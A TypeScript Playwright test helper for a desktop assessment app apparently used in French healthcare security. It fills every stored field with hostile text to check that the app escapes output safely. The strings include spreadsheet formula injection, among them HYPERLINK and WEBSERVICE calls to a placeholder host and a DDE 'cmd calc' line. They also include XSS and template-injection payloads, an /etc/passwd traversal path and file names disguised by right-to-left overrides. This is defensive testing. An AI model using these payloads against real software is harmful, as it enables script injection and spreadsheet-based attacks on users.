import { writeFileSync } from 'node:fs'
import type { Page } from 'playwright/test'
import type { Channel } from '../main/ipc/channels'
import type { ActionEdits, Input, Output, Result } from '../main/ipc/contract'
import { contactRoles } from '../questionnaires/contacts'
import { aDefinition, aQuestion } from '../questionnaires/testing/a-definition'
import { answerOpenDialog, expect, fileIn, type RunningApp } from './fixtures'

/** What runs sets this on the page. */
export const TRAP = 'trapSprung'
const run = `globalThis.${TRAP}=1`

/** What a text begins with is what makes a formula of it. */
const starts = [
  `=HYPERLINK("https://example.invalid/?"&A1,"cliquez")`,
  `=WEBSERVICE("https://example.invalid/")`,
  `+cmd|' /C calc'!A0`,
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `javascript:${run}`,
  'https://example.invalid/image.png',
  '\u202egnp.exe',
]

/** What stands in every text: tags, scripts, templates, controls, halves of characters, directions, emoji, XML. */
const body = [
  `"><svg/onload=${run}>`,
  `<iframe srcdoc="<script>parent.${TRAP}=1</script>"></iframe>`,
  `{{constructor.constructor('${run}')()}} \${${run}}`,
  '\0\u0007\u001b]0;x\u0007 \ud800 \u202eexe.fdp\u202c \u2066x',
  ']]>&lt;&#0;_x0000_%s%n',
  '👩🏽‍⚕️🏴󠁧󠁢󠁥󠁮󠁧󠁿 مستشفى',
  '../../../etc/passwd',
].join(' ')

let made = 0
/** A hostile text of exactly so many characters, another beginning each time; its end is one long word. */
export function nasty(length: number): string {
  made += 1
  return `${starts[made % starts.length]} ${made} ${body} ${'W'.repeat(length)}`.slice(0, length)
}

/** Calls a channel from the page. @throws {Error} with the code of the failure */
export async function call<C extends Channel>(window: Page, channel: C, input: Input<C>): Promise<Output<C>> {
  const result = await window.evaluate(
    ([name, given]) => {
      const desktop: Readonly<Record<string, (value: unknown) => Promise<string>>> = Reflect.get(globalThis, 'desktop')
      return desktop[name]?.(given) ?? ''
    },
    [channel, input] as const,
  )
  // What the main process writes is typed by the contract.
  const answer = JSON.parse(result) as Result<Output<C>>
  if (answer.ok) return answer.value
  throw new Error(`${channel}: ${answer.error.code}`)
}

/** Writes hostile texts in every field of everything there is, then shows it. */
export async function poison(app: RunningApp, dataFolder: string): Promise<void> {
  const { window } = app
  const { organisations, establishments, assessments, settings } = await call(window, 'getOverview', {})
  await call(window, 'saveSettings', { ...settings, respondent: nasty(500), respondentRole: nasty(500) })
  for (const { id, details } of organisations) {
    const duty = { status: 'to-do', date: null, note: nasty(2000) } as const
    await call(window, 'saveOrganisation', {
      id,
      details: {
        ...details,
        name: nasty(200),
        finess: nasty(200),
        siren: nasty(200),
        ght: nasty(200),
        nis2Override: { category: 'EE', reason: nasty(2000) },
        duties: { register: duty, notify: duty, manage: duty },
      },
    })
  }
  for (const { id, organisationId, details } of establishments) {
    const named = { name: nasty(200), finess: nasty(200), siret: nasty(200), department: nasty(200) }
    await call(window, 'saveEstablishment', { id, organisationId, details: { ...details, ...named } })
    for (const role of contactRoles.slice(0, 4)) {
      const short = { name: nasty(200), organisation: nasty(200), phone: nasty(200), email: nasty(200) }
      const said = { availability: nasty(200), source: nasty(200), note: nasty(2000) }
      const contact = { establishmentId: id, forWholeOrganisation: false, details: { role, ...short, ...said } }
      await call(window, 'saveContact', { id: null, ...contact })
    }
    await poisonPlan(window, id)
  }
  for (const { id, details, closedAt } of assessments) {
    if (closedAt !== null) await call(window, 'reopenAssessment', { assessmentId: id, reason: nasty(2000) })
    await call(window, 'updateAssessment', {
      id,
      details: { ...details, label: nasty(120), perimeter: nasty(200) },
    })
    await poisonAnswers(window, id)
  }
  for (const { id } of organisations) await poisonEvidence(app, dataFolder, id)
  await window.reload()
  await window.getByRole('heading', { level: 1 }).waitFor()
}

async function poisonAnswers(window: Page, assessmentId: string): Promise<void> {
  const { answers } = await call(window, 'getAssessment', { assessmentId })
  for (const [index, stored] of answers.slice(0, 8).entries()) {
    const { questionId, answeredBy: _, revision: __, updatedAt: ___, evidenceIds: ____, ...answer } = stored
    const length = index === 0 ? 20_000 : 1000
    const written = { comment: nasty(length), reason: nasty(1000), privateNote: nasty(1000), officialNumber: nasty(40) }
    const verification = { by: nasty(500), on: '2026-11-20' }
    await call(window, 'saveAnswer', { assessmentId, questionId, answer: { ...answer, ...written, verification } })
  }
}

async function poisonPlan(window: Page, establishmentId: string): Promise<void> {
  const edits = (of: ActionEdits, title: string): ActionEdits => {
    const people = { owner: nasty(500), doneBy: nasty(500) }
    return { ...of, ...people, title, statusReason: nasty(2000), comment: nasty(2000), priority: 1 }
  }
  const { actions } = await call(window, 'getPlan', { establishmentId })
  for (const { key, edits: known } of actions.slice(0, 3)) {
    await call(window, 'saveAction', { establishmentId, key, edits: edits(known, known.title) })
  }
  const [first] = actions
  if (first === undefined) return
  for (const status of ['to-do', 'abandoned'] as const) {
    const dueDate = '2027-01-31'
    await call(window, 'addAction', {
      establishmentId,
      edits: { ...edits(first.edits, nasty(200)), status, dueDate, evidenceIds: [] },
    })
  }
}

async function poisonEvidence(app: RunningApp, dataFolder: string, organisationId: string): Promise<void> {
  const { window } = app
  const { assessments, establishments } = await call(window, 'getOverview', {})
  const site = establishments.find((candidate) => candidate.organisationId === organisationId)
  if (site === undefined) return
  const { pieces } = await call(window, 'getEvidence', { establishmentId: site.id })
  for (const { id, piece } of pieces.slice(0, 2)) {
    const said = { title: nasty(500), location: nasty(500), holder: nasty(500), link: nasty(500) }
    await call(window, 'saveEvidence', { id, organisationId, piece: { ...piece, ...said } })
  }
  const piece = { title: nasty(500), link: `javascript:${run}`, expires: '2026-01-01' }
  const { id } = await call(window, 'saveEvidence', { id: null, organisationId, piece })
  const file = fileIn(dataFolder, `=1+1 <img src=x onerror="${run}">\u202efdp\t'.exe`)
  writeFileSync(file, 'x')
  await answerOpenDialog(app, file)
  const kept = await call(window, 'attachEvidenceFile', { id, keeping: 'copy' })
  expect(kept).toMatchObject({ outcome: 'attached', evidence: { piece: { file: { copied: true } } } })
  const own = assessments.find((candidate) => candidate.organisationId === organisationId)
  if (own === undefined) return
  const { answers } = await call(window, 'getAssessment', { assessmentId: own.id })
  const [answer] = answers
  if (answer === undefined) return
  const link = { assessmentId: own.id, questionId: answer.questionId, evidenceIds: [id] }
  await call(window, 'setEvidenceLinks', link)
}

/** A questionnaire whose every text is hostile, written as a file. What no questionnaire may hold is left out of it. */
export function hostileQuestionnaire(folder: string): string {
  const allowed = `${starts[0]} <script>${run}</script> <img src=x onerror="${run}"> ${body.replaceAll(/\p{C}/gu, '')}`
  const text = (start: string, length = 600) => `${start}${allowed}`.slice(0, length).trim()
  const base = aDefinition({ id: 'hostile', title: text('=1 '), about: text('@a '), audience: text('+1 ') })
  const domains = base.domains.map((domain, index) => ({
    ...domain,
    title: text('=D '),
    short: `<b>=${index}</b>`,
    intro: text('-D '),
    questions: domain.questions.map(({ id }) =>
      aQuestion({
        id,
        measure: domain.measures[0]?.id ?? '',
        label: `=${id} <img src=x onerror=1>`.slice(0, 60),
        text: text(`=${id} `),
        help: text(`+${id} `),
        why: text('@'),
        ask: text('javascript:'),
        evidence: [text('=preuve ')],
      }),
    ),
    measures: domain.measures
      .slice(0, 1)
      .map((measure) => ({ ...measure, why: text('='), how: [text('+'), text('-')] })),
  }))
  const file = fileIn(folder, 'questionnaire hostile.yaml')
  // JSON is YAML.
  writeFileSync(file, JSON.stringify({ ...base, domains }))
  return file
}
